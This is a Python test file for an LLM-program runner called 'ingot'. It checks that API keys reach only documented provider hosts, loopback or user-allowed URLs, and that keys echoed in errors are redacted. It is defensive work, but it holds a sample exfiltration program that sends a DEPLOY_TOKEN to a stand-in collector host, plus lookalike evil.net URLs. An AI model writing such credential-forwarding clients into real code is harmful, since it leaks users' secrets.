"""API keys go only to the provider's documented host, this machine, or a URL the user allowed;
a key never appears in an error's text."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import ingot
from ingot.cli import main
from ingot.llm import destinations
from ingot.view import EnvRef

EXFILTRATE = """
client Collector = openai.GenericClient.new(model = "m", base_url = "https://collector.example.net/v1",
                                            api_key = env.DEPLOY_TOKEN)
function Summarize(text: string) -> string {
  client: Collector
  prompt: `Summarize ${text}`
}
"""


@pytest.fixture(autouse=True)
def no_allowed_urls(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(destinations, "_allowed", [])
    monkeypatch.delenv(destinations.ALLOW_ENV, raising=False)


def fields_of(error: ingot.BamlError) -> dict[str, Any]:
    return dict(zip(error.value.cls.field_names, error.value.fields))


def test_a_key_from_the_environment_is_not_sent_to_a_host_the_program_names(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DEPLOY_TOKEN", "ghp_secretsecretsecret")
    program = ingot.load_source(EXFILTRATE)
    with pytest.raises(ingot.BamlError) as info:
        program.call("Summarize", text="hello")
    assert info.value.qualified_kind == "ai.errors.InvalidRequest"
    detail = fields_of(info.value)["detail"]
    assert "refusing to send the credential of openai.GenericClient to https://collector.example.net" in detail
    assert "--allow-llm-url https://collector.example.net" in detail
    assert "ghp_secretsecretsecret" not in str(info.value)


def test_the_cli_refuses_unless_the_url_is_allowed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DEPLOY_TOKEN", "ghp_secretsecretsecret")
    source = tmp_path / "collector.baml"
    source.write_text(EXFILTRATE)
    args = ["run", str(source), "Summarize", "--args", '{"text": "x"}', "--json"]
    refused = CliRunner().invoke(main, args, catch_exceptions=False)
    assert "ghp_secretsecretsecret" not in refused.output
    assert "refusing to send the credential" in json.dumps(json.loads(refused.output)["error"])
    # allowed: the request is attempted (and fails here, with no network), no longer refused
    monkeypatch.setattr(destinations, "_allowed", [])
    allowed = CliRunner().invoke(main, ["--allow-llm-url", "https://collector.example.net", *args],
                                 catch_exceptions=False)
    error = json.dumps(json.loads(allowed.output)["error"])
    assert "refusing" not in error and "NetworkFailure" in error
    assert "ghp_secretsecretsecret" not in allowed.output


def test_documented_hosts_loopback_and_env_chosen_urls_are_allowed() -> None:
    key = {"authorization": "Bearer sk-abcdefgh1234"}
    destinations.check("openai.ChatClient", {}, "https://api.openai.com/v1/chat/completions", key)
    destinations.check("openai.AzureClient", {}, "https://team.openai.azure.com/openai/deployments/d", key)
    destinations.check("aws.BedrockClient", {}, "https://bedrock-runtime.eu-west-1.amazonaws.com/model/x", key)
    destinations.check("openai.GenericClient", {}, "http://localhost:8000/v1/chat/completions", key)
    destinations.check("openai.GenericClient", {}, "http://127.0.0.1:9/v1/chat/completions", key)
    destinations.check("openai.GenericClient", {}, "http://[::1]:9/v1/chat/completions", key)
    destinations.check("openai.GenericClient", {"base_url": EnvRef("MY_PROXY")}, "https://proxy.corp/v1", key)


@pytest.mark.parametrize("constructor,url", [
    ("openai.ChatClient", "https://api.openai.com.evil.net/v1/chat/completions"),  # a suffix is not the host
    ("openai.ChatClient", "http://api.openai.com/v1/chat/completions"),  # a key over plain http
    ("openai.ChatClient", "https://api.openai.com:8443/v1/chat/completions"),
    ("anthropic.Client", "https://api.openai.com/v1/messages"),  # another provider's host
    ("openai.AzureClient", "https://openai.azure.com.evil.net/x"),
    ("google.GeminiClient", "https://evil.net/v1beta/models/m:generateContent?key=AIzaSyA-secret-key-123"),
])
def test_other_destinations_are_refused(constructor: str, url: str) -> None:
    headers = {} if "key=" in url else {"x-api-key": "sk-ant-abcdefgh"}
    with pytest.raises(destinations.Refused):
        destinations.check(constructor, {}, url, headers)


def test_a_request_without_a_credential_goes_anywhere() -> None:
    destinations.check("openai.GenericClient", {}, "https://models.example.org/v1", {"content-type": "x"})


def test_an_allowed_url_admits_the_urls_below_it_only(monkeypatch: pytest.MonkeyPatch) -> None:
    key = {"authorization": "Bearer sk-abcdefgh1234"}
    destinations.allow_url("https://Proxy.Corp/llm")
    destinations.check("openai.GenericClient", {}, "https://proxy.corp/llm/v1/chat/completions", key)
    for url in ("https://proxy.corp/other/v1", "https://proxy.corp.evil.net/llm/v1", "http://proxy.corp/llm/v1"):
        with pytest.raises(destinations.Refused):
            destinations.check("openai.GenericClient", {}, url, key)
    monkeypatch.setenv(destinations.ALLOW_ENV, "https://a.example, https://b.example/v1")
    destinations.check("openai.GenericClient", {}, "https://b.example/v1/chat/completions", key)


def test_a_rejected_key_echoed_by_the_provider_is_redacted(llm_server: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TEAM_KEY", "sk-live-0123456789abcdef")
    program = ingot.load_source("""
client Fast = openai.ChatClient.new(model = "m", api_key = env.TEAM_KEY, base_url = env.LLM_MOCK_URL)
function Num() -> int {
  client: Fast
  prompt: `n ${ctx.output_format()}`
}
""")
    body = json.dumps({"error": {"message": "Incorrect API key provided: sk-live-0123456789abcdef"}})
    llm_server.reset([{"status": 401, "body": body}])
    with pytest.raises(ingot.BamlError) as info:
        program.call("Num")
    raw = fields_of(info.value)["raw_body"]
    assert "sk-live-0123456789abcdef" not in raw and "[redacted]" in raw
    assert "sk-live-0123456789abcdef" not in str(info.value)
    # the request itself did carry the key: redaction is about what is shown, not what is sent
    assert llm_server.requests[0]["headers"]["authorization"] == "Bearer sk-live-0123456789abcdef"
